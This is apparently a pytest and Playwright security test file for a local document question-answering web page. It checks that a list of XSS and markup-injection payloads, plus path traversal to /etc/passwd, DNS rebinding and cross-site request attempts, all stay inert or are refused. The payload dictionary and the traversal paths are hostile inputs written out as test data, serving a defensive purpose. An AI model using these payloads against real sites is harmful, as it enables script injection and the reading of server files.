"""Nothing that documents, files or people say can act in the browser, and no other site or machine gets in."""

from __future__ import annotations

import http.client
import http.server
import os
import socket
import stat
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from browsing import Visit, ask, open_chip, served
from conftest import Build, StubEncoder, StubReader
from pages import ScriptedCorpus, answer, passage
from playwright.sync_api import Browser, Page, Route, expect

from index.documents import Document, Source, Span
from index.scanning import FileNote
from qa import escaping
from qa.corpus import Corpus
from qa.results import Answer, Citation, Claim, Quote, Speaker
from ui import server, uploads

pytestmark = [
    pytest.mark.filterwarnings("ignore:.*silent_downcasting"),
    pytest.mark.filterwarnings("ignore:The copy keyword"),
]

ACT = "window.hacked=1"
PAYLOADS = {
    "script": f"<script>{ACT}</script>",
    "script in capitals, unclosed": f"<SCRIPT>{ACT}//",
    "image that fails": f"<img src=x onerror={ACT}>",
    "image elsewhere": "<img src=https://evil.example/a.png>",
    "svg": f"<svg/onload={ACT}>",
    "frame": f"<iframe srcdoc='<script>parent.{ACT}</script>'></iframe>",
    "object": "<object data=https://evil.example></object><embed src=https://evil.example>",
    "form": "<form action=https://evil.example><input name=q><button>Ask</button></form>",
    "style": "<style>body{display:none}</style>",
    "link to a style": "<link rel=stylesheet href=https://evil.example/a.css>",
    "base": "<base href=https://evil.example/>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "attribute that ends": f'" onmouseover="{ACT}" autofocus onfocus="{ACT}" x="',
    "attribute that ends, single": f"' onclick='{ACT}' x='",
    "tags that end": f"</mark></span></div></article></textarea></title><img src=x onerror={ACT}>",
    "markdown image": "![i](https://evil.example/b.png)",
    "markdown link": f"[link](javascript:{ACT})",
    "markdown html block": f"\n\n<div onclick={ACT}>x</div>\n\n    code\n\n```js\n{ACT}\n```\n\n# a\n\n| a |\n|---|\n",
    "auto link": f"https://evil.example/auto www.evil.example me@evil.example <javascript:{ACT}>",
    "template literal": f"${{{ACT}}} `${{{ACT}}}`",
    "template braces": f"{{{{{ACT}}}}} {{% {ACT} %}} <%= {ACT} %>",
    "formula": "$$\\href{javascript:1}{x}$$ \\(x\\) $x$",
    "references": f"&lt;img src=x onerror={ACT}&gt; &#60;script&#62;{ACT}&#60;/script&#62; &amp;lt;",
    "broken references": f"&#x3c;img src=x onerror={ACT}> \x3cscript\x3e{ACT}",
    "direction and tags": "\u202egnp.exe\u202c \u2066x\u2069 zero\u200bwidth\ufeff \U000e0041\U000e0042 \x1b[31mred",
    "comment and data": f"<!--><img src=x onerror={ACT}>--> <![CDATA[<script>{ACT}</script>]]>",
    "custom element": f"<x-x is=y style=animation-name:rotation onanimationstart={ACT}></x-x>",
    "details": f"<details open ontoggle={ACT}><summary>x</summary></details>",
    "python": "{0.__class__} %s %(x)s \\N{BULLET} '); import os #",
}


def question_of(name: str) -> str:
    return escaping.visible(f"{PAYLOADS[name]} {name}?")


def hostile_answer(document: Document, name: str) -> Answer:
    start = document.text.index("It says")
    citation = Citation.from_document(document, Span(start, len(document.text) - len(" After it.")))
    quote = Quote(citation, Span(start + 3, start + 12), 0.9, Speaker(PAYLOADS[name], Span(0, 3)))
    return answer(question_of(name), Claim(PAYLOADS[name], (quote,)), related=(passage(document, "Before it."),))


@pytest.fixture(scope="module")
def hostile() -> ScriptedCorpus:
    """Return a document for each payload, which is its text, title, publisher, date and path."""
    documents = {
        name: Document.from_raw(
            f"Before it. It says {payload} and {name}. After it.",
            Source(f"dir/{payload} {name}.txt", f"{payload} {name}", payload, payload),
        )
        for name, payload in PAYLOADS.items()
    }
    answers = [hostile_answer(document, name) for name, document in documents.items()]
    corpus = ScriptedCorpus(list(documents.values()), {each.question: each for each in answers})
    corpus.notes = tuple(FileNote(f"dir/{payload}", f"cannot be read: {payload}") for payload in PAYLOADS.values())
    return corpus


@pytest.fixture(scope="module")
def hostile_page(browser: Browser, hostile: ScriptedCorpus) -> Iterator[Page]:
    """One visit for all payloads; at its end nothing was asked for elsewhere and nothing was complained of."""
    with served(hostile) as address, Visit(browser, address) as page:
        yield page


def assert_inert(page: Page) -> None:
    assert page.evaluate("window.hacked") is None
    inside = "#chat .message, #reader, #first-visit, #strip, #library, #narrowing"
    made = (
        "script, img, iframe, style, form:not(.narrow form), svg, object, embed, link, base, meta, textarea, x-x, "
        "table, input:not(.add input, .narrow input), [onerror], [onload], [onmouseover], [onclick], [onfocus], "
        "[ontoggle]"
    )
    assert page.locator(f":is({inside}) :is({made})").count() == 0
    links = page.locator("#chat a, #reader a").evaluate_all("links => links.map((link) => link.getAttribute('href'))")
    assert all(link.startswith("?cite=") for link in links)


@pytest.mark.browser
@pytest.mark.parametrize("name", PAYLOADS)
def test_hostile_text_title_path_and_question_are_shown_and_do_nothing(
    hostile_page: Page, hostile: ScriptedCorpus, name: str
) -> None:
    page, question = hostile_page, question_of(name)
    (quote,) = hostile.answers[question].quotes
    page.locator("#box textarea").fill(question)
    page.keyboard.press("Enter")
    expect(page.locator("#chat .asked").last).to_have_text(question.strip())
    card = page.locator("#chat .answer").last
    expect(card.locator(".quote")).to_be_visible()
    assert card.locator(".quote blockquote").text_content() == escaping.visible(quote.text)
    open_chip(page, 1)
    assert page.locator("#reader mark").all_text_contents() == [escaping.visible(quote.text)]
    assert_inert(page)


@pytest.mark.browser
def test_hostile_names_in_lists_are_shown_and_do_nothing(hostile_page: Page) -> None:
    page = hostile_page
    page.locator("#strip .skipped summary").click()
    assert page.locator("#strip .skipped li").count() == len(PAYLOADS)
    page.get_by_role("button", name=f"{len(PAYLOADS)} documents").click()
    expect(page.locator("#library li")).to_have_count(len(PAYLOADS))
    assert_inert(page)


# --- other sites and other machines ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def url(hostile: ScriptedCorpus) -> Iterator[str]:
    with served(hostile) as address:
        yield address


@pytest.fixture(scope="module")
def other_site() -> Iterator[str]:
    """Another site, on this machine so that a browser lets its pages try."""

    class Hello(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"<!doctype html><link rel=icon href=data:,>another site")

        def log_message(self, *_: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Hello) as site:
        threading.Thread(target=site.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{site.server_address[1]}/"
        site.shutdown()


@pytest.fixture
def visitor(browser: Browser) -> Iterator[Page]:
    context = browser.new_context()
    yield context.new_page()
    context.close()


@pytest.mark.browser
def test_a_name_that_only_resolves_to_this_machine_gets_no_page(visitor: Page, url: str) -> None:
    response = visitor.goto(url.replace("127.0.0.1", "evil.localhost"))  # as after DNS rebinding
    assert response is not None
    assert response.status == 400
    assert "gradio" not in visitor.content()


@pytest.mark.browser
@pytest.mark.parametrize("path", ["api/v1/ask", "api/v1/update", "api/v1/uploads?name=a.txt", "gradio_api/queue/join"])
def test_a_page_of_another_site_can_neither_ask_nor_change_anything(
    visitor: Page, url: str, other_site: str, path: str
) -> None:
    visitor.goto(other_site)
    with visitor.expect_response(f"{url}{path}") as refused:
        visitor.evaluate(
            "(to) => fetch(to, {method: 'POST', mode: 'no-cors', body: '{}'}).then(() => 0)", f"{url}{path}"
        )
    assert refused.value.status == 403


@pytest.mark.browser
def test_a_page_of_another_site_cannot_read_an_answer_or_frame_the_page(
    visitor: Page, url: str, other_site: str
) -> None:
    visitor.goto(other_site)
    status = visitor.evaluate("(to) => fetch(to).then((r) => r.status, () => 0)", f"{url}api/v1/documents")
    assert status in (0, 403)
    headers = get(url, "/", Origin=url.rstrip("/")).headers
    assert "frame-ancestors 'self'" in headers["content-security-policy"]
    assert "access-control-allow-origin" not in get(url, "/api/v1/health", Origin="https://evil.example").headers


@pytest.mark.browser
@pytest.mark.parametrize(
    "path", ["gradio_api/file=/etc/passwd", "gradio_api/file=../../etc/passwd", "static/%2e%2e/%2e%2e/etc/passwd"]
)
def test_a_path_out_of_the_page_leads_nowhere(visitor: Page, url: str, path: str) -> None:
    response = visitor.goto(f"{url}{path}")
    assert response is not None
    assert response.status in (403, 404)
    assert "root:" not in visitor.content()


@pytest.mark.browser
def test_a_file_over_the_limit_is_refused_with_its_reason(
    browser: Browser, build: Build, index_dir: Path, encoder: StubEncoder, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    build()
    monkeypatch.setattr(uploads, "MAX_UPLOAD_BYTES", 10)
    corpus = Corpus.open(index_dir, encoder=encoder, reader=StubReader())
    with served(corpus) as address, Visit(browser, address, refused="status of 413") as page:
        file = {"name": "large.txt", "mimeType": "text/plain", "buffer": b"more than ten bytes"}
        looks: list[Route] = []
        page.route("**/api/v1/update", lambda route: looks.append(route), times=1)
        for _ in range(600):  # a minute; the page looks every four seconds
            if not looks:
                page.wait_for_timeout(100)
        page.locator(".add input").set_input_files([file])
        expect(page.locator(".news")).to_contain_text("large.txt: The file is over the limit")
        looks[0].continue_()  # what was asked before the refusal is answered after it
        page.wait_for_timeout(500)
        expect(page.locator(".news")).to_contain_text("large.txt: The file is over the limit", timeout=1000)
        ask(page, "What flows through Vienna?")
    assert not (folder / "large.txt").exists()


def get(url: str, path: str, **headers: str) -> http.client.HTTPResponse:
    host, port = url.removeprefix("http://").strip("/").split(":")
    connection = http.client.HTTPConnection(host, int(port), timeout=10)
    connection.request("GET", path, headers=headers)
    return connection.getresponse()


def test_the_page_listens_on_this_machine_alone(url: str) -> None:
    assert url.startswith("http://127.0.0.1:")
    port = int(url.strip("/").rsplit(":", 1)[1])
    names = {entry[4][0] for entry in socket.getaddrinfo(socket.gethostname(), None, socket.AF_INET)}
    for address in (name for name in names if not name.startswith("127.")):
        with pytest.raises(OSError, match=r"refused|timed out|unreachable"):
            socket.create_connection((address, port), timeout=2)


def test_every_directive_of_the_content_security_policy_is_sent(url: str) -> None:
    sent = get(url, "/").headers["content-security-policy"]
    for directive in (
        "default-src 'self'", "script-src 'self' 'unsafe-inline' 'unsafe-eval'", "style-src 'self' 'unsafe-inline'",
        "img-src 'self' data: blob:", "font-src 'self' data:", "connect-src 'self'", "object-src 'none'",
        "base-uri 'self'", "form-action 'self'", "frame-ancestors 'self'",
    ):  # fmt: skip
        assert directive in sent


def test_the_temporary_folder_is_private_and_goes_with_the_page(hostile: ScriptedCorpus) -> None:
    page = server.start(hostile)  # type: ignore[arg-type]
    folder = Path(os.environ["GRADIO_TEMP_DIR"])
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    page.stop()
    assert not folder.exists()
